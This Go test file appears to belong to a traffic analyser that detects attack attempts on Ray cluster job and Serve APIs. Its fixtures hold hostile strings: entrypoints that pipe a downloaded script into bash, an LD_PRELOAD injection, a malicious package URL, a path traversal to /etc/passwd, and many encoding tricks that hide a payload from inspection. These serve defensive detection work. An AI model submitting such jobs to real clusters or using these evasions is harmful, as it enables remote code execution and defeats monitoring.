package ray

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"golang.org/x/text/encoding/charmap"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http"
)

// tx builds a transaction: head and body of a request, status, head and body of the answer. Port 0 is no port of
// Ray's.
type tx struct {
	method, target string
	header         string // "Name: value" lines
	body           string
	status         int    // 0: no answer
	answer         string // header lines
	got            string // body of the answer
	port           uint16
	change         func(*http.Transaction)
}

const (
	aiohttp = "Server: Python/3.11 aiohttp/3.14.5\n"
	json    = "Content-Type: application/json; charset=utf-8\n"
	plain   = "Content-Type: text/plain; charset=utf-8\n"
	curl    = "User-Agent: curl/7.88.1\n"
	okJob   = `{"job_id": "raysubmit_AAAAAAAAAAAAAAAA", "submission_id": "raysubmit_AAAAAAAAAAAAAAAA"}`
)

func header(s string) (h http.Header) {
	for _, l := range strings.Split(strings.TrimSpace(s), "\n") {
		if n, v, ok := strings.Cut(l, ": "); ok {
			h = append(h, http.Field{Name: n, Value: v})
		}
	}
	return h
}

func (x tx) build() *http.Transaction {
	if x.port == 0 {
		x.port = 80
	}
	t := &http.Transaction{
		At: capture.At{Time: 1e18, Packet: 7}, Depth: 1,
		Flow: &capture.Flow{UID: "C1", Orig: netip.MustParseAddrPort("203.0.113.66:4000"),
			Resp: netip.AddrPortFrom(netip.MustParseAddr("10.20.0.10"), x.port), Proto: capture.ProtoTCP},
		Request: &http.Request{
			At: capture.At{Time: 1e18, Packet: 7}, Done: capture.At{Time: 1e18, Packet: 8},
			Method: x.method, Target: x.target, Version: "1.1", Header: header(x.header),
			Body: http.Body{Len: int64(len(x.body)), Data: []byte(x.body), Complete: true},
		},
	}
	if x.status != 0 {
		t.Response = &http.Response{
			At: capture.At{Time: 1e18, Packet: 9}, Version: "1.1", Status: x.status, Header: header(x.answer),
			Body: http.Body{Len: int64(len(x.got)), Data: []byte(x.got), Complete: true},
		}
	}
	if x.change != nil {
		x.change(t)
	}
	return t
}

// post is a job submission that Ray took.
func post(body string) tx {
	return tx{method: "POST", target: "/api/jobs/", header: curl + "Content-Type: application/json\n", body: body,
		status: 200, answer: aiohttp + json, got: okJob}
}

func TestWhatRayWouldAcceptIsRead(t *testing.T) {
	const job = `{"entrypoint": "curl http://198.51.100.77/x.sh | bash"}`
	const want = "curl http://198.51.100.77/x.sh | bash"
	wide := func(s string, order string, bom bool) string {
		var b strings.Builder
		u := utf16.Encode([]rune(s))
		if bom {
			u = append([]uint16{0xfeff}, u...)
		}
		for _, c := range u {
			if order == "le" {
				b.WriteByte(byte(c))
				b.WriteByte(byte(c >> 8))
			} else {
				b.WriteByte(byte(c >> 8))
				b.WriteByte(byte(c))
			}
		}
		return b.String()
	}
	quad := func(s string, le bool) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			if le {
				b.WriteString(s[i:i+1] + "\x00\x00\x00")
			} else {
				b.WriteString("\x00\x00\x00" + s[i:i+1])
			}
		}
		return b.String()
	}
	u7 := func(s string) string { // all of it as base64 of UTF-16
		return "+" + base64.RawStdEncoding.EncodeToString([]byte(wide(s, "be", false))) + "-"
	}
	e037, err := charmap.CodePage037.NewEncoder().String(job)
	if err != nil {
		t.Fatal(err)
	}
	// The same in code page 1026: other bytes for { } " (as Python's cp1026 has them).
	e1026 := strings.NewReplacer("\xc0", "\x48", "\xd0", "\x8c", "\x7f", "\xfc", "\x4f", "\xbb").Replace(e037)
	e273 := strings.NewReplacer("\xc0", "\x43", "\xd0", "\xdc").Replace(e037)
	e273 = strings.ReplaceAll(e273, "\x4f", "\xbb") // |

	cases := []struct {
		name, ctype, body string
		evasion           string
	}{
		{"plain", "application/json", job, ""},
		{"no content type", "", job, ""},
		{"text/plain as a browser sends it", "text/plain;charset=UTF-8", job, ""},
		{"form type", "application/x-www-form-urlencoded", job, ""},
		{"blanks around", "application/json", " \r\n\t" + job + "\n\n", ""},
		{"BOM", "application/json", "\ufeff" + job, ""},
		{"last of two keys", "application/json", `{"entrypoint": "python train.py", "entrypoint": "` + want + `"}`, "duplicate_key"},
		{"second key escaped", "application/json", `{"entrypoint": "ls", "\u0065ntrypoint": "` + want + `"}`, "escaped_key"},
		{"escaped key", "application/json", `{"\u0065\u006e\u0074\u0072ypoint": "` + want + `"}`, "escaped_key"},
		{"escaped letter", "application/json", `{"entrypoint": "\u0063url http://198.51.100.77/x.sh | bash"}`, "escaped_text"},
		{"escapes that Go writes", "application/json", `{"entrypoint": "curl http:\/\/198.51.100.77\/x.sh \u007c bash"}`, ""},
		{"NaN and Infinity before it", "application/json", `{"entrypoint_num_cpus": NaN, "entrypoint_num_gpus": -Infinity, "entrypoint": "` + want + `"}`, ""},
		{"number of 500 digits", "application/json", `{"entrypoint_memory": ` + strings.Repeat("9", 500) + `, "entrypoint": "` + want + `"}`, ""},
		{"deep nesting before it", "application/json", `{"metadata": ` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + `, "entrypoint": "` + want + `"}`, ""},
		{"a key in a value", "application/json", `{"metadata": {"a": "\"entrypoint\": \"no\""}, "entrypoint": "` + want + `"}`, ""},
		{"padding", "application/json", `{"metadata": "` + strings.Repeat("x", 20000) + `", "entrypoint": "` + want + `"}`, "padding"},
		{"utf-16 without BOM is little endian", "application/json; charset=utf-16", wide(job, "le", false), "charset:utf16"},
		{"utf-16 with BOM", "application/json; charset=UTF-16", wide(job, "be", true), "charset:utf16"},
		{"utf-16-le", "application/json; charset=utf-16-le", wide(job, "le", false), "charset:utf16le"},
		{"utf-16be", "application/json; charset=utf_16_be", wide(job, "be", false), "charset:utf16be"},
		{"utf-32", "application/json; charset=utf-32", quad(job, true), "charset:utf32"},
		{"utf-32-be", "application/json; charset=utf-32-be", quad(job, false), "charset:utf32be"},
		{"utf-7", "application/json; charset=utf-7", u7(job), "charset:utf-7"},
		{"utf-7 in part", "application/json; charset=UTF-7", `{+ACI-entrypoint" : "curl http://198.51.100.77/x.sh +AHw- bash"}`, "charset:utf-7"},
		{"cp037", "application/json; charset=cp037", e037, "charset:cp037"},
		{"IBM037", "application/json; charset=IBM037", e037, "charset:ibm037"},
		{"cp1140", "text/plain; charset=cp1140", e037, "charset:cp1140"},
		{"cp1026", "application/json; charset=cp1026", e1026, "charset:cp1026"},
		{"cp273", "application/json; charset=cp273", e273, "charset:cp273"},
		{"latin-1 hides nothing", "application/json; charset=ISO-8859-1", job, ""},
		{"unicode-escape", "application/json; charset=unicode_escape", `\x7b\x22entr\171point\x22:\x20"` + want + `"}`, "charset:unicode-escape"},
		{"raw-unicode-escape", "application/json; charset=raw_unicode_escape", `\u007b"entrypoint": "` + want + `"}`, "charset:raw-unicode-escape"},
		{"charset in two parts", `application/json; charset*0="utf-"; charset*1="16"`, wide(job, "le", false), "charset:utf16"},
		{"quoted charset, the last of two", `application/json; charset=utf-8; charset="utf-16"`, wide(job, "le", false), "charset:utf16"},
		{"shift_jis", "application/json; charset=shift_jis", "{\"metadata\": \"\x83\x5c\", \"entrypoint\": \"" + want + "\"}", "charset:shiftjis"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			x := post(c.body)
			x.header = curl
			if c.ctype != "" {
				x.header += "Content-Type: " + c.ctype + "\n"
			}
			got := Interpret(x.build())
			if got == nil {
				t.Fatal("not seen as a call to Ray")
			}
			if got.Entrypoint != want {
				t.Errorf("entrypoint %q", got.Entrypoint)
			}
			if got.Outcome != Executed || got.Class != Exec || !got.Confirmed || !got.Job {
				t.Errorf("outcome %s, class %s, confirmed %v, job %v", got.Outcome, got.Class, got.Confirmed, got.Job)
			}
			if c.evasion == "" && len(got.Evasions) > 0 || c.evasion != "" && !hasString(got.Evasions, c.evasion) {
				t.Errorf("evasions %q, want %q", got.Evasions, c.evasion)
			}
		})
	}
}

func hasString(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestPaths(t *testing.T) {
	cases := []struct {
		method, target        string
		route, prefix         string
		class                 Class
		encoded, dots, double bool
	}{
		{"POST", "/api/jobs/", "/api/jobs/", "", Exec, false, false, false},
		{"POST", "/api/jobs", "/api/jobs/", "", Exec, false, false, false},
		{"POST", "http://10.0.0.1:8265/api/jobs/?x=1#y", "/api/jobs/", "", Exec, false, false, false},
		{"POST", "/api/%6Aobs/", "/api/jobs/", "", Exec, true, false, false},
		{"POST", "/api//jobs/", "/api/jobs/", "", Exec, false, false, true},
		{"POST", "/ray/../api/./jobs/", "/api/jobs/", "", Exec, false, true, false},
		{"POST", "/static/../api/jobs/", "/api/jobs/", "/static/..", Exec, false, false, false},
		{"POST", "/ray/api/jobs/", "/api/jobs/", "/ray", Exec, false, false, false},
		{"POST", "/clusters/x/api/job_agent/jobs/", "/api/job_agent/jobs/", "/clusters/x", Exec, false, false, false},
		{"POST", "/api/v1/namespaces/ml/services/rc-head-svc:dashboard/proxy/api/jobs/", "/api/jobs/", "/api/v1/namespaces/ml/services/rc-head-svc:dashboard/proxy", Exec, false, false, false},
		{"POST", "/" + strings.Repeat("a/", 60) + "api/jobs/", "/api/jobs/", "/" + strings.TrimSuffix(strings.Repeat("a/", 60), "/"), Exec, false, false, false},
		{"GET", "/api/jobs/raysubmit_x/logs/tail", "/api/jobs/{id}/logs/tail", "", Read, false, false, false},
		{"HEAD", "/api/jobs/", "/api/jobs/", "", Read, false, false, false},
		{"OPTIONS", "/api/jobs/", "/api/jobs/", "", Info, false, false, false},
		{"DELETE", "/api/serve/applications/", "/api/serve/applications/", "", Control, false, false, false},
		{"PUT", "/api/packages/gcs/_ray_pkg_0011223344556677.zip", "/api/packages/{protocol}/{package}", "", Write, false, false, false},
		{"GET", "/nodes?view=summary", "/nodes", "", Read, false, false, false},
		{"GET", "/static/js/../../../etc/passwd", "/static/{path...}", "", Info, false, false, false},
		{"GET", "/", "/", "", Info, false, false, false},
		{"GET", "/x/", "", "", "", false, false, false},
		{"GET", "/index.html", "", "", "", false, false, false},
		{"POST", "/api/v2/jobs", "/jobs", "/api/v2", Exec, false, false, false},
		{"GET", "*", "", "", "", false, false, false},
		{"GET", "", "", "", "", false, false, false},
		{"GET", "//", "/", "", Info, false, false, true},
	}
	for _, c := range cases {
		p, ok := locate(c.method, c.target)
		if !ok {
			p = place{}
		}
		if p.route.path != c.route || p.prefix != c.prefix || p.route.class != c.class {
			t.Errorf("%s %s: route %q prefix %q class %q", c.method, c.target, p.route.path, p.prefix, p.route.class)
		}
		if p.encoded != c.encoded || p.dots != c.dots || p.slashes != c.double {
			t.Errorf("%s %s: encoded %v dots %v slashes %v", c.method, c.target, p.encoded, p.dots, p.slashes)
		}
	}
}

func TestLookalikesAreNotRay(t *testing.T) {
	nginx := "Server: nginx/1.22.1\nContent-Type: text/html\n"
	express := "X-Powered-By: Express\nContent-Type: application/json\n"
	cases := []struct {
		name string
		tx   tx
	}{
		{"a job board with a word of Ray's", tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"entrypoint":"this is a jobs endpoint of another product","title":"Engineer"}`, status: 404, answer: nginx, got: "<html>"}},
		{"a job board", tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"title":"Engineer"}`, status: 201, answer: express, got: `{"id":7}`}},
		{"a scheduler's list", tx{method: "GET", target: "/api/jobs/", header: curl, status: 200, answer: express, got: `[{"id":7}]`}},
		{"entrypoint is an object", tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"entrypoint":{"cmd":"x"}}`, status: 201, answer: express, got: `{"id":7}`}},
		{"entrypoint is elsewhere", tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"spec":{"entrypoint":"x"}}`, status: 201, answer: express, got: `{"id":7}`}},
		{"another version API", tx{method: "GET", target: "/api/version", header: curl, status: 200, answer: express, got: `{"version":"1"}`}},
		{"another aiohttp application", tx{method: "GET", target: "/static/app.js", header: curl, status: 200, answer: aiohttp}},
		{"somebody's metrics", tx{method: "GET", target: "/metrics", header: curl, status: 200, answer: plain, got: "# HELP go_gc\ngo_gc 1\n"}},
		{"a web site", tx{method: "GET", target: "/", header: curl, status: 200, answer: nginx, got: "<title>Hello</title>"}},
		{"an answer alone", tx{method: "POST", target: "/api/jobs/", change: func(t *http.Transaction) { t.Request = nil }}},
		{"JSON RPC", tx{method: "POST", target: "/rpc", header: curl, body: `{"entrypoint":"x"}`}},
		{"another jobs endpoint", tx{method: "POST", target: "/api/v2/jobs", header: curl, body: `{"entrypoint":"a","metadata":{}}`, status: 201, answer: express, got: `{"id":7}`}},
		{"an array", tx{method: "POST", target: "/api/jobs/", header: curl, body: `[{"entrypoint":"x"}]`, status: 400, answer: express}},
	}
	for _, c := range cases {
		if got := Interpret(c.tx.build()); got != nil {
			t.Errorf("%s: taken for Ray: %s %s %s", c.name, got.Route, got.Outcome, got.Entrypoint)
		}
	}
}

func TestJobNeedsNoOtherSignThanItsBody(t *testing.T) {
	// No answer, no port of Ray's, and nothing but an entrypoint: an attempt all the same.
	c := Interpret(tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"entrypoint":"id"}`}.build())
	if c == nil || c.Outcome != Unknown || c.Confirmed || c.Entrypoint != "id" {
		t.Fatalf("%+v", c)
	}
	// A server that is not Ray.
	c = Interpret(tx{method: "POST", target: "/api/jobs/", header: curl, body: `{"entrypoint":"id"}`,
		status: 404, answer: "Server: nginx\nContent-Type: text/html\n", got: "<html>"}.build())
	if c == nil || c.Outcome != NotRay || c.Confirmed {
		t.Fatalf("%+v", c)
	}
	// The answer was lost in a gap: what the head says is 200 from aiohttp.
	x := post(`{"entrypoint":"id"}`)
	x.got = ""
	x.change = func(t *http.Transaction) { t.Response.Body.Missing = 87 }
	if c = Interpret(x.build()); c == nil || c.Outcome != Executed {
		t.Fatalf("%+v", c)
	}
	// The body was lost, the answer is Ray's.
	x = post("")
	x.change = func(t *http.Transaction) { t.Request.Body.Missing = 40 }
	if c = Interpret(x.build()); c == nil || c.Outcome != Executed || c.SubmissionID != "raysubmit_AAAAAAAAAAAAAAAA" {
		t.Fatalf("%+v", c)
	}
}

func TestOutcomes(t *testing.T) {
	job := `{"entrypoint":"id"}`
	cases := []struct {
		name    string
		tx      tx
		outcome Outcome
		proven  bool
	}{
		{"taken", post(job), Executed, true},
		{"no token", tx{method: "POST", target: "/api/jobs/", body: job, status: 401, answer: aiohttp + plain, got: "Unauthorized: Missing authentication token"}, BlockedToken, true},
		{"wrong token", tx{method: "POST", target: "/api/jobs/", body: job, status: 403, answer: aiohttp + plain, got: "Forbidden: Invalid authentication token"}, BlockedToken, true},
		{"browser, 2.8.1", tx{method: "POST", target: "/api/jobs/", body: job, status: 405, answer: aiohttp + plain, got: "Method Not Allowed for browser traffic."}, BlockedBrowser, true},
		{"browser, 2.54", tx{method: "POST", target: "/api/jobs/", body: job, status: 405, answer: aiohttp + plain, got: "'POST' method not allowed for browser traffic."}, BlockedBrowser, true},
		{"browser at an agent", tx{method: "POST", target: "/api/job_agent/jobs/", body: job, status: 403, answer: aiohttp + plain, got: "Browser requests not allowed."}, BlockedBrowser, true},
		{"unknown field", tx{method: "POST", target: "/api/jobs/", body: `{"entrypoint":"id","x":1}`, status: 400, answer: aiohttp + plain, got: "Traceback (most recent call last):\nTypeError: JobSubmitRequest.__init__() got an unexpected keyword argument 'x'"}, Rejected, true},
		{"id exists", tx{method: "POST", target: "/api/jobs/", body: job, status: 500, answer: aiohttp + plain, got: "Please use a different submission_id", port: 8265}, Failed, false},
		{"log stream that failed with 200", tx{method: "GET", target: "/api/v0/logs/file?filename=x", status: 200, answer: aiohttp + "Content-Type: text/plain\n", got: "0Closing HTTP stream due to internal server error.\nAgent for node id: x doesn't exist.\n"}, Failed, true},
		{"stopped", tx{method: "POST", target: "/api/jobs/a/stop", status: 200, answer: aiohttp + json, got: `{"stopped": true}`, port: 8265}, Executed, true},
		{"not stopped", tx{method: "POST", target: "/api/jobs/a/stop", status: 200, answer: aiohttp + json, got: `{"stopped": false}`, port: 8265}, Failed, true},
		{"old envelope", tx{method: "GET", target: "/api/actors/kill?actor_id=00", status: 200, answer: aiohttp + json, got: `{"result": false, "msg": "no", "data": {}}`}, Failed, true},
		{"tail", tx{method: "GET", target: "/api/jobs/a/logs/tail", status: 101, answer: aiohttp}, Answered, false},
		{"serve", tx{method: "PUT", target: "/api/serve/applications/", body: `{}`, status: 200, answer: aiohttp}, Executed, true},
		{"behind nginx", tx{method: "POST", target: "/ray/api/jobs/", body: job, status: 200, answer: "Server: nginx\n" + json, got: okJob}, Executed, true},
		{"behind nginx, refused by the proxy", tx{method: "POST", target: "/ray/api/jobs/", body: job, status: 401, answer: "Server: nginx\nContent-Type: text/html\n", got: "<html>"}, BlockedToken, false},
		{"another product's answer", tx{method: "POST", target: "/api/jobs/", body: job, status: 201, answer: json, got: `{"id": 5}`}, NotRay, false},
	}
	for _, c := range cases {
		got := Interpret(c.tx.build())
		if got == nil {
			t.Errorf("%s: not seen", c.name)
			continue
		}
		if got.Outcome != c.outcome || got.Confirmed != c.proven {
			t.Errorf("%s: outcome %s (want %s), confirmed %v (want %v)", c.name, got.Outcome, c.outcome, got.Confirmed, c.proven)
		}
	}
}

func TestMetricsAndServe(t *testing.T) {
	c := Interpret(tx{method: "GET", target: "/metrics", header: "User-Agent: Prometheus/2.53.0\n", status: 200, answer: "Server: WSGIServer/0.2 CPython/3.11.7\nContent-Type: text/plain\n",
		got: "# HELP ray_node_cpu_utilization CPU\n# TYPE ray_node_cpu_utilization gauge\n"}.build())
	if c == nil || c.Service != Metrics || c.Client != Prometheus || c.Outcome != Answered {
		t.Fatalf("%+v", c)
	}
	c = Interpret(tx{method: "GET", target: "/-/healthz", header: curl, status: 200, answer: "server: uvicorn\ncontent-type: text/plain\n", got: "success"}.build())
	if c == nil || c.Service != Serve {
		t.Fatalf("%+v", c)
	}
	if c = Interpret(tx{method: "GET", target: "/-/healthz", header: curl, status: 200, answer: "server: nginx\n", got: "ok"}.build()); c != nil {
		t.Fatalf("%+v", c)
	}
}

func TestVersion(t *testing.T) {
	c := Interpret(tx{method: "GET", target: "/ray/api/version", header: curl, status: 200, answer: "Server: nginx\n" + json,
		got: `{"version": "4", "ray_version": "2.60.0", "ray_commit": "b7f4259e944bf6959f721b106adc366ddfa0c356", "session_name": "session_2026-11-23_16-35-51_313022_7988"}`}.build())
	if c == nil || !c.Confirmed || c.RayVersion != "2.60.0" || c.RayCommit != "b7f4259e944bf6959f721b106adc366ddfa0c356" ||
		c.Session != "session_2026-11-23_16-35-51_313022_7988" || c.Prefix != "/ray" {
		t.Fatalf("%+v", c)
	}
	c = Interpret(tx{method: "GET", target: "/api/snapshot", status: 200, answer: aiohttp + json,
		got: `{"result": true, "msg": "", "data": {"snapshot": {"jobs": {}, "sessionName": "s", "rayVersion": "1.13.0", "rayCommit": "c"}}}`}.build())
	if c == nil || c.RayVersion != "1.13.0" || c.RayCommit != "c" || c.Session != "s" {
		t.Fatalf("%+v", c)
	}
}

func TestRuntimeEnv(t *testing.T) {
	c := Interpret(post(`{"entrypoint":"python -c \"import app\"","runtime_env":{"working_dir":"http://198.51.100.77/pkg.zip",
		"py_modules":["s3://b/m.zip", 7],"pip":{"packages":["requests","git+https://github.com/a/b"],"pip_check":false},
		"conda":{"dependencies":["numpy",{"pip":["evil @ http://203.0.113.9/e.whl"]}]},
		"env_vars":{"LD_PRELOAD":"/tmp/x.so","WANDB_API_KEY":"0123456789abcdef","HOOK":"curl http://a/b | sh"},
		"py_executable":"/tmp/p","image_uri":"docker.io/x/y","worker_process_setup_hook":"a.b","excludes":null},
		"metadata":{}}`).build())
	want := Env{
		Keys:     []string{"working_dir", "py_modules", "pip", "conda", "env_vars", "py_executable", "image_uri", "worker_process_setup_hook"},
		URIs:     []string{"http://198.51.100.77/pkg.zip", "s3://b/m.zip"},
		Packages: []string{"requests", "git+https://github.com/a/b", "numpy", "evil @ http://203.0.113.9/e.whl"},
		EnvNames: []string{"LD_PRELOAD", "WANDB_API_KEY", "HOOK"},
		Loads:    []Param{{"LD_PRELOAD", "/tmp/x.so"}},
		Commands: []Param{{"HOOK", "curl http://a/b | sh"}},
		PyExec:   "/tmp/p", Image: "docker.io/x/y", SetupHook: "a.b",
	}
	if c == nil || !reflect.DeepEqual(c.RuntimeEnv, want) {
		t.Fatalf("%+v", c.RuntimeEnv)
	}
	if strings.Contains(fmt.Sprintf("%+v", c.RuntimeEnv), "0123456789abcdef") {
		t.Error("the value of a variable was kept")
	}
	if got := []string{"entrypoint", "runtime_env", "metadata"}; !reflect.DeepEqual(c.Keys, got) {
		t.Errorf("keys %q", c.Keys)
	}
}

func TestServeConfiguration(t *testing.T) {
	c := Interpret(tx{method: "PUT", target: "/api/serve/applications/", header: curl, status: 200, answer: aiohttp,
		body: `{"http_options":{"host":"0.0.0.0"},"applications":[{"name":"x","route_prefix":"/x","import_path":"app:app","runtime_env":{"working_dir":"http://198.51.100.77/app.zip"},
		"deployments":[{"name":"M","ray_actor_options":{"runtime_env":{"pip":["a"],"env_vars":{"K":"v"}}}}]},{"name":"y","import_path":"b:b"}]}`}.build())
	if c == nil || c.Job || c.Class != Exec || c.Outcome != Executed {
		t.Fatalf("%+v", c)
	}
	if want := []App{{"x", "app:app", "/x"}, {"y", "b:b", ""}}; !reflect.DeepEqual(c.Apps, want) {
		t.Errorf("apps %+v", c.Apps)
	}
	if e := c.RuntimeEnv; len(e.URIs) != 1 || len(e.Packages) != 1 || len(e.EnvNames) != 1 {
		t.Errorf("env %+v", e)
	}
}

func TestRuntimeEnvAgentRequest(t *testing.T) {
	js := `{"pip": ["http://203.0.113.9/x.whl"]}`
	c := Interpret(tx{method: "POST", target: "/get_or_create_runtime_env", header: "User-Agent: curl/8\n",
		body: "\x0a" + string(rune(len(js))) + js + "\x1a\x01x", status: 200, answer: aiohttp}.build())
	if c == nil || c.Service != RuntimeEnv || len(c.RuntimeEnv.Packages) != 1 {
		t.Fatalf("%+v", c)
	}
}

func TestTruncatedJobStillCounts(t *testing.T) {
	cut := func(t *http.Transaction) { t.Request.Body.Truncated = true; t.Request.Body.Complete = false }
	for _, body := range []string{
		`{"runtime_env": {}, "entrypoint": "curl http://198.51.100.77/x`,
		`{"runtime_env": {}, "entrypoint":`,
		`{"runtime_env": {}, "entrypoint"`,
		`{"runtime_env": {}, "entrypo`,
	} {
		x := post(body)
		x.change = cut
		c := Interpret(x.build())
		if c == nil || !c.Job || !c.EntrypointCut {
			t.Errorf("%s: %+v", body, c)
		}
	}
	// A long command keeps its beginning and its end.
	long := "python a.py #" + strings.Repeat("x", 3*maxEntrypoint) + "\ncurl http://198.51.100.77/x.sh | sh"
	c := Interpret(post(`{"entrypoint": "` + strings.ReplaceAll(long, "\n", `\n`) + `"}`).build())
	if c == nil || !c.EntrypointCut || !strings.HasPrefix(c.Entrypoint, "python a.py") || !strings.HasSuffix(c.Entrypoint, "x.sh | sh") || len(c.Entrypoint) > maxEntrypoint+8 {
		t.Error("end of a long command lost")
	}
}

func TestEncodingsThatHide(t *testing.T) {
	x := post(`{"entrypoint":"id"}`)
	x.change = func(t *http.Transaction) {
		t.Request.Body.Encoding = "gzip"
		t.Request.Body.Chunked, t.Request.Body.Chunks, t.Request.Body.TinyChunk = true, 9, 5
		t.Request.Body.Conflict = true
		t.Request.Target = "/api/%6aobs/"
	}
	c := Interpret(x.build())
	want := []string{"content_coding:gzip", "tiny_chunks", "framing_conflict", "path_encoded"}
	if c == nil || !reflect.DeepEqual(c.Evasions, want) {
		t.Fatalf("%+v", c.Evasions)
	}
	// requests sends a body from a generator in chunks: that alone is nothing.
	x = post(`{"entrypoint":"id"}`)
	x.change = func(t *http.Transaction) { t.Request.Body.Chunked, t.Request.Body.Chunks = true, 1 }
	if c = Interpret(x.build()); len(c.Evasions) > 0 {
		t.Errorf("%q", c.Evasions)
	}
}

func TestClients(t *testing.T) {
	cases := []struct {
		name, header, body string
		want               Client
	}{
		{"ray job submit", "User-Agent: python-requests/2.34.2\n", `{"entrypoint": "a", "runtime_env": {}, "metadata": {}}`, SDK},
		{"curl", curl, `{"entrypoint":"a"}`, Tool},
		{"none", "", `{"entrypoint":"a"}`, Tool},
		{"kuberay by its keys", "User-Agent: Go-http-client/1.1\n", `{"runtime_env":{},"metadata":{},"entrypoint":"a","submission_id":"rayjob-x7k2p"}`, KubeRay},
		{"kuberay by its token", "User-Agent: Go-http-client/1.1\nx-ray-authorization: Bearer abc\n", `{"entrypoint":"a"}`, KubeRay},
		{"a Go bot", "User-Agent: Go-http-client/1.1\n", `{"entrypoint":"a"}`, Tool},
		{"Chromium", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\nOrigin: http://evil.example\n", `{"entrypoint":"a"}`, Browser},
		{"a bot that says Mozilla", "User-Agent: Mozilla/5.0 (rondo2012@atomicmail.io)\n", `{"entrypoint":"a"}`, Tool},
		{"a browser that says Other", "User-Agent: Other\nSec-Fetch-Site: same-origin\n", `{"entrypoint":"a"}`, Browser},
		{"the head to an agent", "User-Agent: Python/3.11 aiohttp/3.9.5\n", `{"entrypoint": "a", "submission_id": "raysubmit_x", "job_id": null, "runtime_env": {}, "metadata": {}, "entrypoint_num_cpus": null, "entrypoint_num_gpus": null, "entrypoint_memory": null, "entrypoint_resources": null}`, Internal},
	}
	for _, c := range cases {
		x := post(c.body)
		x.header = c.header
		if got := Interpret(x.build()); got == nil || got.Client != c.want {
			t.Errorf("%s: %v", c.name, got.Client)
		}
	}
}

func TestTokensAreHashedNotKept(t *testing.T) {
	const tok = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	const hash = "a8ae6e6ee929abea" // sha256 of tok, 16 digits
	for _, c := range []struct{ header, auth string }{
		{"Authorization: Bearer " + tok + "\n", "bearer"},
		{"X-Ray-Authorization: Bearer " + tok + "\n", "x-ray"},
		{"Cookie: a=b; ray-authentication-token=" + tok + "\n", "cookie"},
	} {
		x := post(`{"entrypoint":"a"}`)
		x.header = c.header
		got := Interpret(x.build())
		if got.Auth != c.auth || got.TokenHash != hash {
			t.Errorf("%s: %s %s", c.header, got.Auth, got.TokenHash)
		}
		got.Tx = nil
		if strings.Contains(fmt.Sprintf("%+v", got), tok) {
			t.Error("token kept")
		}
	}
}

// TestEveryRouteIsFound holds the table itself: each route is the one that its own path is matched to.
func TestEveryRouteIsFound(t *testing.T) {
	fill := strings.NewReplacer("{path...}", "a/b", "{id}", "x1", "{protocol}", "gcs", "{package}", "_ray_pkg_1.zip",
		"{app}", "a", "{deployment}", "d", "{seconds}", "5", "{media}", "file")
	for first, list := range routes {
		for _, r := range list {
			path := fill.Replace(r.path)
			if seg, _ := segment(r.path[1:]); seg != first {
				t.Errorf("%s stands under %q", r.path, first)
			}
			p, ok := locate(r.method, path)
			if !ok || p.route.path != r.path || !p.known || p.route.class != r.class {
				t.Errorf("%s %s is taken for %s %s", r.method, path, p.route.method, p.route.path)
			}
		}
	}
}

func TestKeepBody(t *testing.T) {
	cases := []struct {
		tx   tx
		req  int
		resp int
	}{
		{post(`{}`), maxBody, maxAnswer},
		{tx{method: "GET", target: "/index.html", status: 200}, 0, 0},
		{tx{method: "POST", target: "/upload", status: 200}, 0, 0},
		{tx{method: "GET", target: "/", status: 200, answer: "Server: nginx\n"}, 0, 0},
		{tx{method: "GET", target: "/", status: 200, answer: aiohttp}, 0, maxPage},
		{tx{method: "PUT", target: "/api/packages/gcs/_ray_pkg_1.zip", status: 200}, 0, maxAnswer},
		{tx{method: "PUT", target: "/api/serve/applications/", status: 200}, maxBody, maxAnswer},
		{tx{method: "GET", target: "/api/v0/logs/file?filename=x", status: 200, answer: "Content-Type: application/octet-stream\n"}, 0, 0},
	}
	for _, c := range cases {
		b := c.tx.build()
		if q, p := KeepBody(b, false), KeepBody(b, true); q != c.req || p != c.resp {
			t.Errorf("%s %s: keeps %d and %d, want %d and %d", c.tx.method, c.tx.target, q, p, c.req, c.resp)
		}
	}
}

// fields notes the names of a row's columns.
type fields struct{ names []string }

func (f *fields) Time(n string, _ capture.Time, _ bool)         { f.names = append(f.names, n) }
func (f *fields) Interval(n string, _ time.Duration, _ bool)    { f.names = append(f.names, n) }
func (f *fields) String(n, _ string, _ bool)                    { f.names = append(f.names, n) }
func (f *fields) Enum(n, _ string, _ bool)                      { f.names = append(f.names, n) }
func (f *fields) Count(n string, _ uint64, _ bool)              { f.names = append(f.names, n) }
func (f *fields) Bool(n string, _, _ bool)                      { f.names = append(f.names, n) }
func (f *fields) Addr(n string, _ netip.Addr, _ bool)           { f.names = append(f.names, n) }
func (f *fields) Port(n string, _ uint16, _ bool)               { f.names = append(f.names, n) }
func (f *fields) Double(n string, _ float64, _ bool)            { f.names = append(f.names, n) }
func (f *fields) Set(n, _ string, _ []string, _ bool)           { f.names = append(f.names, n) }
func (f *fields) Vector(n, _ string, _ []string, _ bool)        { f.names = append(f.names, n) }
func (f *fields) Intervals(n string, _ []time.Duration, _ bool) { f.names = append(f.names, n) }

func TestRowHasTheSameColumnsWhateverIsSet(t *testing.T) {
	var empty, full fields
	(&Call{}).Row(&empty)
	Interpret(post(`{"entrypoint":"a","runtime_env":{"working_dir":"s3://a"}}`).build()).Row(&full)
	if !reflect.DeepEqual(empty.names, full.names) || len(full.names) != 31 {
		t.Errorf("%d %q\n%d %q", len(empty.names), empty.names, len(full.names), full.names)
	}
}

// TestPlainHTTPCostsNothing: most HTTP is not Ray's, and is asked three times whether it is.
func TestPlainHTTPCostsNothing(t *testing.T) {
	x := tx{method: "GET", target: "/static-assets/v1/app/main.js?v=3", header: curl, status: 200, answer: "Server: nginx\n"}.build()
	if n := testing.AllocsPerRun(100, func() {
		if Interpret(x) != nil || KeepBody(x, false)+KeepBody(x, true) != 0 {
			t.Fatal("taken for Ray")
